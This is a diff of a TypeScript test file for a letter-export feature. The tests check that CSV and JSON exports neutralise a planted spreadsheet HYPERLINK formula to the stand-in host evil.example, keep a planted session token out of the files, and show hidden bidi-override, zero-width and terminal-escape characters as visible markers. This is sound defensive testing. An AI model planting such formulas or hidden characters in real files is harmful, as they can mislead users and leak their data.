@@ -1,5 +1,6 @@
 import type { Pool } from "pg";
 import { afterAll, beforeAll, expect, test } from "vitest";
+import { markUnseen } from "@/lib/domain/unseen";
 import { archiveLetter, fillArchive } from "@/scripts/testing/archived-letters";
 import { openStores, type TestStores } from "@/scripts/testing/stores";
 import { exportLetters } from "./export";
@@ -55,6 +56,18 @@ test("a formula in an error is text, and a session token that an error names is 
   const csv = await whole({ kind }, "csv");
   expect(csv).toContain(`"'=HYPERLINK(""http://evil.example""`);
   expect(csv + (await whole({ kind }, "json"))).not.toContain("tok-planted");
+});
+
+test("no file holds a character that is not seen: CSV names it, and JSON reads back as what was written", async () => {
+  const kind = "unseen";
+  const { id } = await archiveLetter(own, { kind, subjectName: "\u202eBran\u200b", state: "resolved" });
+  const reason = "paid \u202eby hand\u009b31m";
+  await own.query("update backstop.dead_letters set resolved_reason = $2 where letter_id = $1", [id, reason]);
+  const [csv, json] = [await whole({ kind }, "csv"), await whole({ kind }, "json")];
+  for (const file of [csv, json]) expect(markUnseen(file)).toBe(file);
+  expect(csv).toContain("‹RLO›Bran‹ZWSP›");
+  expect(csv).toContain("paid ‹RLO›by hand‹CSI›31m");
+  expect(JSON.parse(json)).toMatchObject([{ resolved_reason: reason }]);
 });
 
 test("only one page is read ahead of who takes it", async () => {
